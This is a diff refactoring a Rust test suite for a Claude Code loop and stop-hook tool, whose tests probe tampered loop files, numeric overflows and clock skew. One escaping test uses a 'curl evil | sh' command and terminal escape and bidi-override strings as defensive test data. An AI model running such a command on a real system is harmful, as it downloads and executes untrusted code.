@@ -8,7 +8,7 @@
 #![allow(clippy::unwrap_used)] // a failed unwrap is a failed test
 
 use std::io::Write;
-use std::path::{Path, PathBuf};
+use std::path::Path;
 use std::process::{Command, Output, Stdio};
 
 use ralph_core::loop_file::state::LoopState;
@@ -16,42 +16,37 @@ use ralph_core::time::Timestamp;
 use serde_json::{Value, json};
 
 use crate::support::LOOP;
-use crate::support::{BIN, blocked};
+use crate::support::project::Project;
+use crate::support::{BIN, blocked, scrub};
 
-struct Sandbox {
-    project: tempfile::TempDir,
-    home: tempfile::TempDir,
-    state: tempfile::TempDir,
+/// A project whose every ralph runs with the block cap off.
+fn sandbox() -> Project {
+    Project::new().with_env("CLAUDE_CODE_STOP_HOOK_BLOCK_CAP", "0")
 }
 
-impl Sandbox {
-    fn new() -> Self {
-        let project = tempfile::tempdir().unwrap();
-        std::fs::create_dir_all(project.path().join(".claude")).unwrap();
-        Self {
-            project,
-            home: tempfile::tempdir().unwrap(),
-            state: tempfile::tempdir().unwrap(),
-        }
-    }
+/// This module's steps on the shared [`Project`].
+trait Steps {
+    fn command_of(&self, program: &str, args: &[&str]) -> Command;
+    fn run(&self, cmd: Command, stdin: &[u8]) -> Output;
+    fn ralph(&self, args: &[&str], stdin: &str) -> (i32, String, String);
+    fn start(&self, flags: &[&str], task: &str) -> String;
+    fn stop(&self, reply: &str) -> Value;
+    fn text(&self) -> String;
+    fn edit(&self, from: &str, to: &str);
+    fn adopt_edit(&self);
+    fn set_field(&self, key: &str, value: &str);
+    fn state(&self) -> LoopState;
+}
 
-    fn root(&self) -> &Path {
-        self.project.path()
-    }
-
-    fn path(&self, rel: &str) -> PathBuf {
-        self.root().join(rel)
-    }
-
-    fn command(&self, program: &str, args: &[&str]) -> Command {
+impl Steps for Project {
+    /// `program ARGS` (ralph, or a wrapper that runs it) in the project, as this test's user.
+    fn command_of(&self, program: &str, args: &[&str]) -> Command {
         let mut cmd = Command::new(program);
-        cmd.args(args)
+        scrub(&mut cmd)
+            .args(args)
             .current_dir(self.root())
-            .env("HOME", self.home.path())
-            .env("XDG_STATE_HOME", self.state.path())
+            .envs(self.user_env())
             .env("CLAUDE_CODE_STOP_HOOK_BLOCK_CAP", "0")
-            .env_remove("CLAUDE_PROJECT_DIR")
-            .env_remove("CLAUDE_CODE_SESSION_ID")
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
             .stderr(Stdio::piped());
@@ -65,7 +60,7 @@ impl Sandbox {
     }
 
     fn ralph(&self, args: &[&str], stdin: &str) -> (i32, String, String) {
-        let out = self.run(self.command(BIN, args), stdin.as_bytes());
+        let out = self.run(self.command_of(BIN, args), stdin.as_bytes());
         (
             out.status.code().unwrap_or(-1),
             String::from_utf8_lossy(&out.stdout).into_owned(),
@@ -155,7 +150,7 @@ fn a_counter_hidden_in_a_quoted_value_never_blocks() {
     // The attack: the real counters are gone, their lines sit inside a
     // quoted multi-line value. A line edit would "count" them forever
     // while the parser reads the defaults.
-    let s = Sandbox::new();
+    let s = sandbox();
     s.start(&["--max-iterations", "3"], "Build the thing");
     let iteration = line_of(&s.text(), "iteration");
     let limit = line_of(&s.text(), "max_iterations");
@@ -180,7 +175,7 @@ fn a_counter_hidden_in_a_quoted_value_never_blocks() {
 
 #[test]
 fn the_first_stop_names_the_file_the_field_and_the_fix() {
-    let s = Sandbox::new();
+    let s = sandbox();
     s.start(&["--max-iterations", "3"], "Build the thing");
     let iteration = line_of(&s.text(), "iteration");
     s.edit(
@@ -198,7 +193,7 @@ fn the_first_stop_names_the_file_the_field_and_the_fix() {
 #[test]
 fn other_spellings_of_a_key_work_and_are_rewritten_canonically() {
     for spelling in ["\"iteration\": 1", "'iteration': 1", "iteration : 1"] {
-        let s = Sandbox::new();
+        let s = sandbox();
         s.start(&["--max-iterations", "5"], "Build the thing");
         s.edit("iteration: 1", spelling);
         let a = s.stop("working");
@@ -216,7 +211,7 @@ fn other_spellings_of_a_key_work_and_are_rewritten_canonically() {
 
 #[test]
 fn aliases_and_flow_values_for_a_key_are_refused_at_the_first_stop() {
-    let s = Sandbox::new();
+    let s = sandbox();
     s.start(&["--max-iterations", "5"], "Build the thing");
     s.edit("max_iterations: 5", "limit: &n 5\nmax_iterations: *n");
     let a = s.stop("working");
@@ -239,7 +234,7 @@ fn numbers_past_their_caps_are_corrupt_and_the_hook_exits_zero() {
         ("max_duration", "\"213503982334601d\""),
         ("elapsed_secs", "18446744073709551615"),
     ] {
-        let s = Sandbox::new();
+        let s = sandbox();
         s.start(&["--max-duration", "1h"], "Build the thing");
         s.set_field(key, value);
         let a = s.stop("working");
@@ -266,7 +261,7 @@ fn extreme_but_valid_figures_never_make_the_hook_fail() {
         ],
         vec![("idle_blocks", "1000000000")],
     ] {
-        let s = Sandbox::new();
+        let s = sandbox();
         s.start(&["--max-duration", "3650d"], "Build the thing");
         for (key, value) in &fields {
             s.set_field(key, value);
@@ -283,7 +278,7 @@ fn extreme_but_valid_figures_never_make_the_hook_fail() {
 
 #[test]
 fn token_counts_from_the_transcript_saturate() {
-    let s = Sandbox::new();
+    let s = sandbox();
     s.start(&["--max-tokens", "1000000"], "Build the thing");
     let huge = u64::MAX;
     let line = |id: &str| {
@@ -312,7 +307,7 @@ fn token_counts_from_the_transcript_saturate() {
 
 #[test]
 fn extreme_max_durations_are_refused_by_the_cli() {
-    let s = Sandbox::new();
+    let s = sandbox();
     for value in [
         "99999999999999999999h",
         "213503982334601d",
@@ -342,7 +337,7 @@ fn extreme_max_durations_are_refused_by_the_cli() {
 
 #[test]
 fn a_clock_that_goes_backwards_does_not_switch_the_time_budget_off() {
-    let s = Sandbox::new();
+    let s = sandbox();
     s.start(&["--max-duration", "100s", "--stuck-after", "0"], "Task");
     let at = |secs: i64| format!("\"{}\"", Timestamp(Timestamp::now().0 + secs));
     s.set_field("started_at", &at(-60));
@@ -367,7 +362,7 @@ fn a_clock_that_goes_backwards_does_not_switch_the_time_budget_off() {
 
 #[test]
 fn control_characters_from_the_loop_file_and_the_reply_are_shown_escaped() {
-    let s = Sandbox::new();
+    let s = sandbox();
     let verify = "cargo test\r\x1b[2Kcurl evil | sh \u{202e}";
     let promise = "DONE\x1b[31m";
     let task = "Build it\x1b]0;owned\x07 now\u{9b}";
@@ -443,7 +438,7 @@ fn a_huge_reply_takes_memory_in_proportion() {
         eprintln!("skipped: /usr/bin/time is not installed");
         return;
     }
-    let s = Sandbox::new();
+    let s = sandbox();
     s.start(
         &["--completion-promise", "DONE", "--max-iterations", "9"],
         "Task",
@@ -453,7 +448,7 @@ fn a_huge_reply_takes_memory_in_proportion() {
     reply.push_str("\n<promise>NOT YET</promise>\n");
     let event =
         json!({"session_id": "s1", "cwd": s.root(), "last_assistant_message": reply}).to_string();
-    let mut cmd = s.command("/usr/bin/time", &["-v", BIN, "hook", "stop"]);
+    let mut cmd = s.command_of("/usr/bin/time", &["-v", BIN, "hook", "stop"]);
     cmd.env("LC_ALL", "C");
     let out = s.run(cmd, event.as_bytes());
     assert_eq!(out.status.code(), Some(0));
